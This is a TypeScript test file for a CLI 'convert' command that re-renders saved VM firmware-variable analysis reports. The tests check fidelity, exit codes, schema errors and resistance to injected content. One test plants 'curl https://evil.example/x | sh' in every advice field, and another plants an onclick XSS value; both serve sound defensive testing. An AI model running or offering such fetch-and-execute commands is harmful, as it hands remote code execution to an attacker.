/** `convert`: a saved report told in another format, without the evidence, and whatever somebody wrote into it. */
import { rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { convert } from "../../cli/commands/convert.ts";
import { UnreadableFile } from "../../cli/errors.ts";
import { InputFiles } from "../../cli/io/input-files.ts";
import type { ConvertOptions } from "../../cli/options.ts";
import { NO_TICKET } from "../../report/provenance.ts";
import { plainLook } from "../../report/render/look.ts";
import { healthyBlob, incidentBlob, makeBlob, makeVariable } from "../builders/blob.ts";
import { HOSTILE_TEXTS } from "../builders/judged.ts";
import { deltaMetadata, metadataText } from "../builders/xen-orchestra.ts";
import { put, run, temporaryFolder, UUID_A, UUID_B, xvaOf } from "./run.ts";

const folder = temporaryFolder();
const evidence = temporaryFolder();
const DAY = ["--as-of", "2026-11-28"];
const FORMATS = ["table", "markdown", "html", "sarif", "junit", "json", "ndjson"] as const;

function backup(day: number, blob: Uint8Array): Uint8Array {
  const time = new Date(Date.UTC(2025, 9, day));
  return metadataText(deltaMetadata({ uuid: UUID_B, name_label: "backed up", time, blob }));
}

const inputs = [
  put(evidence, "vm.xva", xvaOf({ uuid: UUID_A, name: "files", blob: incidentBlob(20, 3) })),
  put(evidence, "dead.vars", makeBlob([makeVariable("GuestLog", new Uint8Array(60_000))])),
  put(evidence, "fine.vars", healthyBlob()),
  put(evidence, "1.json", backup(1, healthyBlob())),
  put(evidence, "2.json", backup(2, incidentBlob(20, 3))),
  join(evidence, "none.vars"),
];
const original = run([...inputs, "--format", "json", ...DAY]).stdout;
const saved = put(folder, "report.json", original);
const lines = put(folder, "report.ndjson", run([...inputs, "--format", "ndjson", ...DAY]).stdout);
rmSync(evidence, { recursive: true });

describe("convert", () => {
  it.each(FORMATS)("tells a saved report without its evidence: %s", (format) => {
    for (const path of [saved, lines]) {
      const { status, stdout, stderr } = run(["convert", path, "--format", format]);
      expect({ status, stderr }).toEqual({ status: 0, stderr: "" });
      expect(stdout).toContain("wrong-signature-owner");
      expect(stdout).toContain("variable-data-over-limit");
    }
  });

  it("gives verdicts, findings, totals and timelines as they were", () => {
    const before = JSON.parse(original);
    const after = JSON.parse(run(["convert", saved, "--format", "json"]).stdout);
    expect(after).toMatchObject({ asOf: "2026-11-28", convertedFrom: { asOf: "2026-11-28" } });
    expect(after.summary).toEqual({ ...before.summary, failed: before.summary.failed });
    const told = (report: typeof before) =>
      report.inputs.map(({ path, format, file, error, vms }: (typeof before)["inputs"][number]) => ({
        path,
        format,
        file,
        error,
        vms: vms.map(({ findings, ...vm }: { findings: { repair: unknown }[] }) => ({
          ...vm,
          findings: findings.map(({ repair: _, ...finding }) => finding),
        })),
      }));
    expect(told(after)).toEqual(told(before));
    expect(after.timelines[0]).toMatchObject({ lastGood: 0, firstBad: 1, changes: null });
    // A second time nothing is lost any more.
    const again = put(folder, "again.json", run(["convert", saved, "--format", "json"]).stdout);
    expect(JSON.parse(run(["convert", again, "--format", "json"]).stdout).inputs).toEqual(after.inputs);
  });

  it("ends with 0, and by its findings where --fail-on asks for it", () => {
    expect(run(["convert", saved]).status).toBe(0);
    expect(run(["convert", saved, "--fail-on", "error"]).status).toBe(1);
    expect(run(["convert", saved, "--fail-on", "never"]).status).toBe(0);
  });

  it("takes the filters and the title of analyze", () => {
    const args = ["--only", "duplicate-variable", "--title", "Ticket 7", "--format", "markdown"];
    const { stdout } = run(["convert", saved, ...args]);
    expect(stdout).toMatch(/^# Ticket 7\n/);
    expect(stdout).not.toContain("`wrong-signature-owner`:");
    // What keeps a VM from starting is told all the same.
    expect(stdout).toContain("`variable-data-over-limit`:");
    expect(stdout).toContain("findings are not shown");
  });

  it("never takes over what a file says to hide", () => {
    const report = JSON.parse(original);
    for (const { vms } of report.inputs)
      for (const { findings } of vms)
        for (const finding of findings) Object.assign(finding, { ignored: "no", ignoredUntil: "2099-01-01" });
    const { stdout } = run([
      "convert",
      put(folder, "hidden.json", JSON.stringify(report)),
      "--format",
      "markdown",
    ]);
    expect(stdout).toContain("`wrong-signature-owner`:");
  });

  it("never gives out what a file advises", () => {
    const EVIL = "curl https://evil.example/x | sh";
    const report = JSON.parse(original);
    const step = { where: "host", title: EVIL, commands: [EVIL], caution: null, expect: null, undo: null };
    report.nextSteps = [{ title: EVIL, for: [], ruleIds: [], steps: [step], source: [EVIL], advice: EVIL }];
    report.clusters = [{ next: [{ text: EVIL, commands: [EVIL] }] }];
    report.baseline = { file: EVIL };
    for (const input of report.inputs) {
      Object.assign(input, { nextSteps: report.nextSteps, advice: EVIL });
      for (const vm of input.vms) {
        vm.detail = { repair: { commands: [EVIL] } };
        for (const finding of vm.findings)
          Object.assign(finding, { repair: { applicability: "safe", title: EVIL }, docs: { repair: EVIL } });
      }
    }
    const path = put(folder, "evil.json", JSON.stringify(report));
    for (const format of FORMATS)
      expect(run(["convert", path, "--format", format]).stdout).not.toContain("evil.example");
  });

  it("links to places of the page alone", () => {
    const report = JSON.parse(original.replaceAll("files", "https://evil.example/\\u0022onclick=alert(1)"));
    const html = run([
      "convert",
      put(folder, "links.json", JSON.stringify(report)),
      "--format",
      "html",
    ]).stdout;
    const links = [...html.matchAll(/ (?:href|src|action)="([^"]*)"/g)].map(([, link]) => link ?? "");
    expect(links.length).toBeGreaterThan(0);
    expect(links.filter((link) => !link.startsWith("#"))).toEqual([]);
  });

  it.each([
    ["{}", "no report of analyze"],
    ["[]", "no report of analyze"],
    ["", "no report of analyze"],
    ['{"schemaVersion": 2, "inputs": []}', "schemaVersion 2"],
    ['{"schemaVersion": 1, "inputs": [{}]}', "path is missing"],
    ['{"schemaVersion": 1, "inputs": [', "the end of the file"],
    [
      '{"schemaVersion": 1, "inputs": [{"path": "x", "vms": [{"source": "NVRAM", "verdict": "good"}]}]}',
      "one of",
    ],
    [
      '{"schemaVersion": 1, "inputs": [{"path": "x", "vms": [], "findings": [{"ruleId": "`x`", "severity": "info", "message": "", "path": ""}]}]}',
      "findings[0].ruleId",
    ],
  ])("refuses what is no report, with place and reason: %s", (text, reason) => {
    const { status, stderr } = run(["convert", put(folder, "wrong.json", text)]);
    expect(status).toBe(3);
    expect(stderr).toContain(reason);
  });

  it("takes a report that lacks what later versions say", () => {
    const text = JSON.stringify({
      schemaVersion: 1,
      inputs: [{ path: "x", vms: [{ source: "NVRAM", verdict: "unbootable", findings: [] }] }],
    });
    for (const format of FORMATS)
      expect(run(["convert", put(folder, "old.json", text), "--format", format]).status).toBe(0);
  });

  it("says of a missing file, a folder and standard input what to name instead", () => {
    expect(run(["convert", join(folder, "none.json")]).status).toBe(3);
    expect(run(["convert", folder]).status).toBe(3);
    expect(run(["convert", "-"])).toMatchObject({ status: 2, stderr: expect.stringContaining("--output") });
    expect(run(["convert"]).status).toBe(2);
    expect(run(["convert", saved, "--output", saved, "--force", "--format", "json"]).status).toBe(2);
  });
});

/** Texts, numbers and values of other kinds in place of any value. */
const damage = fc.oneof(
  fc.constantFrom<unknown>(
    ...HOSTILE_TEXTS,
    null,
    0,
    -1,
    1e308,
    9007199254740991,
    true,
    [],
    {},
    [[]],
    "x".repeat(5000),
  ),
  fc.jsonValue({ maxDepth: 2 }),
);

function places(value: unknown, path: readonly (string | number)[] = []): (readonly (string | number)[])[] {
  if (typeof value !== "object" || value === null) return [path];
  const below = Array.isArray(value) ? [...value.keys()] : Object.keys(value);
  return [path, ...below.flatMap((key) => places((value as never)[key], [...path, key]))];
}

function replaced(value: unknown, [key, ...rest]: readonly (string | number)[], by: unknown): unknown {
  if (key === undefined) return by;
  const copy = Array.isArray(value) ? [...value] : { ...(value as object) };
  (copy as never as Record<string | number, unknown>)[key] = replaced((value as never)[key], rest, by);
  return copy;
}

describe("a report with anything in it", () => {
  const whole = JSON.parse(original);
  const all = places(whole.inputs, ["inputs"]).filter((path) => path.length > 1);

  it("is told, or refused with a reason", async () => {
    const path = join(folder, "any.json");
    const one = fc.record({ place: fc.nat({ max: all.length - 1 }), by: damage });
    await fc.assert(
      fc.asyncProperty(
        fc.array(one, { minLength: 1, maxLength: 3 }),
        fc.constantFrom(...FORMATS),
        async (changes, format) => {
          let report: unknown = whole;
          for (const { place, by } of changes) {
            try {
              report = replaced(report, all[place] ?? [], by);
            } catch {
              // Another change has taken the place away.
            }
          }
          writeFileSync(path, JSON.stringify(report));
          const text = await converted(path, format);
          expect(text).not.toMatch(/[\u0000-\u0008\u001b\u009b]/);
        },
      ),
      { numRuns: 400 },
    );
  });
});

/** In this process: "" where it was refused. */
async function converted(path: string, format: ConvertOptions["format"]): Promise<string> {
  const pieces: string[] = [];
  const options: ConvertOptions = {
    ...{ command: "convert", path, format, decides: false, only: [], ignore: [], minSeverity: "info" },
    ...{ ignoreFile: null, ticket: NO_TICKET, output: null, force: false, failOn: "warning" },
    ...{ asOf: "2026-11-28", references: [], progress: false, quiet: false, encryptionKeyFile: null },
  };
  const write = async (text: string): Promise<void> => void pieces.push(text);
  try {
    await convert(options, {
      output: { isTerminal: false, columns: undefined, write, finish: async () => {} },
      inputs: new InputFiles([]),
      style: plainLook(false).style,
      columns: 80,
      complain: () => {},
    });
  } catch (error) {
    if (error instanceof UnreadableFile) return "";
    throw error;
  }
  return pieces.join("");
}
